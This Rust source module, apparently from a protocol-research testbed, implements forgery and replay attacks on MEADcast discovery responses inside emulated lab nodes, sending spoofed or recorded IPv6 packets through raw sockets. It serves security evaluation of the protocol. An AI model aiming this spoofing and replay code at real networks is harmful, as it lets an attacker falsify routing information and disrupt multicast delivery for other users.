//! Attacks on MEADcast: discovery responses that are forged, or recorded and sent again (meadcast-thesis-2024,
//! 4.4.3 and 5.1.4).

use std::collections::VecDeque;
use std::net::{Ipv6Addr, SocketAddr, SocketAddrV6};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};
use treecast_wire::ipv6::{self, next_header};
use treecast_wire::mead::{Dialect, Header, Kind};

use super::Forgery;
use crate::error::{Error, Result};
use crate::lab::Lab;
use crate::relay::{self, MAX_FRAME_BYTES};

/// The longest time until an attack ends, and the largest delay of a packet.
const TURN: Duration = Duration::from_millis(10);

/// The largest number of recorded responses that wait for their time. Further ones are ignored.
const MAX_WAITING: usize = 1 << 16;

/// The length of the header that the kernel puts before each frame, in bytes.
const VNET_LEN: usize = 10;
const ETHERNET_LEN: usize = 14;
const HOP_LIMIT: u8 = 64;

/// An attack that goes on until this is dropped.
pub struct Attack {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Attack {
    fn start(work: impl FnOnce(&AtomicBool, &AtomicU64) + Send + 'static) -> Self {
        let (stop, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (must_stop, count) = (Arc::clone(&stop), Arc::clone(&sent));
        Self { stop, sent, thread: Some(thread::spawn(move || work(&must_stop, &count))) }
    }

    /// The number of packets sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(Err(panic)) = self.thread.take().map(JoinHandle::join) {
            std::panic::resume_unwind(panic);
        }
    }
}

/// Sends forged responses, a round at a time.
pub(super) fn forge(lab: &Lab, forgery: &Forgery) -> Result<Attack> {
    let (to, router) = (lab.address(&forgery.to)?, lab.address(&forgery.router)?);
    let receivers = forgery.receivers.iter().map(|name| lab.address(name)).collect::<Result<Vec<_>>>()?;
    let socket = sending_socket(lab, &forgery.node)?;
    let packets: Vec<_> =
        receivers.iter().map(|receiver| response(router, to, *receiver, forgery.hops)).collect();
    let every = forgery.every.max(TURN);
    Ok(Attack::start(move |stop, sent| {
        let mut next = Instant::now();
        while !stop.load(Ordering::Relaxed) {
            if Instant::now() >= next {
                next += every;
                packets.iter().for_each(|packet| send(&socket, to, packet, sent));
            }
            thread::sleep(TURN);
        }
    }))
}

/// Sends each response that comes in by `interface` again, once, later.
pub(super) fn replay(lab: &Lab, node: &str, interface: &str, after: Duration) -> Result<Attack> {
    let index = lab.interface(node, interface)?.index;
    let recorder = lab
        .enter(node, || relay::open(index))?
        .map_err(Error::system(format!("record packets at {node}")))?;
    let socket = sending_socket(lab, node)?;
    Ok(Attack::start(move |stop, sent| {
        let mut waiting: VecDeque<(Instant, Ipv6Addr, Vec<u8>)> = VecDeque::new();
        let mut buffer = vec![0; MAX_FRAME_BYTES];
        while !stop.load(Ordering::Relaxed) {
            while let Some(frame) = recorder.receive(&mut buffer) {
                if let Some((to, packet)) = recorded(frame).filter(|_| waiting.len() < MAX_WAITING) {
                    waiting.push_back((Instant::now() + after, to, packet));
                }
            }
            let due = waiting.partition_point(|(at, ..)| *at <= Instant::now());
            waiting.drain(..due).for_each(|(_, to, packet)| send(&socket, to, &packet, sent));
            thread::sleep(TURN);
        }
    }))
}

/// Parses a frame. If it is a response, returns its destination and its bytes from the IPv6 header on.
fn recorded(frame: &[u8]) -> Option<(Ipv6Addr, Vec<u8>)> {
    let packet = frame.get(VNET_LEN + ETHERNET_LEN..)?;
    let (ip, rest) = ipv6::Header::parse(packet).ok()?;
    if ip.next_header != next_header::ROUTING || !Header::is_routing_type(*rest.get(2)?, Dialect::Rfc) {
        return None;
    }
    let (header, _) = Header::parse(rest, Dialect::Rfc).ok()?;
    (header.kind == Kind::Response).then(|| (ip.destination, packet.to_vec()))
}

fn sending_socket(lab: &Lab, node: &str) -> Result<Socket> {
    let open = || Socket::new(Domain::IPV6, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)));
    lab.enter(node, open)?.map_err(Error::system(format!("open a raw socket in {node}")))
}

fn send(socket: &Socket, to: Ipv6Addr, packet: &[u8], sent: &AtomicU64) {
    let address = SocketAddr::V6(SocketAddrV6::new(to, 0, 0, 0));
    // If the attacker's own network is broken, it sends nothing.
    if socket.send_to(packet, &address.into()).is_ok() {
        sent.fetch_add(1, Ordering::Relaxed);
    }
}

/// The response of a router without a key, from any address.
fn response(router: Ipv6Addr, to: Ipv6Addr, receiver: Ipv6Addr, hops: u8) -> Vec<u8> {
    let header = Header { kind: Kind::Response, hops, ..Header::request(receiver) };
    let header = header.to_bytes(Dialect::Rfc);
    let ip = ipv6::Header {
        class_and_label: 0,
        payload_len: header.len() as u16,
        next_header: next_header::ROUTING,
        hop_limit: HOP_LIMIT,
        source: router,
        destination: to,
    };
    [&ip.to_bytes()[..], &header].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_response_is_well_formed() {
        let [router, to, receiver] = ["fd00::66", "fd00::1", "fd00::2"].map(|a| a.parse().unwrap());
        let packet = response(router, to, receiver, 3);
        let (ip, rest) = ipv6::Header::parse(&packet).unwrap();
        let (header, rest) = Header::parse(rest, Dialect::Rfc).unwrap();
        assert_eq!((ip.source, ip.destination, ip.payload_len), (router, to, 32));
        assert_eq!(
            (header.kind, header.hops, header.addresses.as_slice()),
            (Kind::Response, 3, &[receiver][..])
        );
        assert!(rest.is_empty());
    }
}
